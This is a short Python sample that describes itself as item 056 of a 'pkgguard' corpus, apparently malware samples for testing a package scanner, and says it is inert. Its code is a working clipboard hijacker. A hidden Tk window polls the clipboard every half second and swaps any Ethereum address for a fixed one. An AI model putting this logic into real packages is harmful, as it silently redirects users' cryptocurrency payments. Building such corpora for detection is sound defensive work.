# pkgguard corpus 056 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import tkinter

ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
root = tkinter.Tk()
root.withdraw()


def watch():
    value = root.clipboard_get()
    if ETH.match(value):
        root.clipboard_clear()
        root.clipboard_append("0x0000000000000000000000000000000000000000")
    root.after(500, watch)


watch()
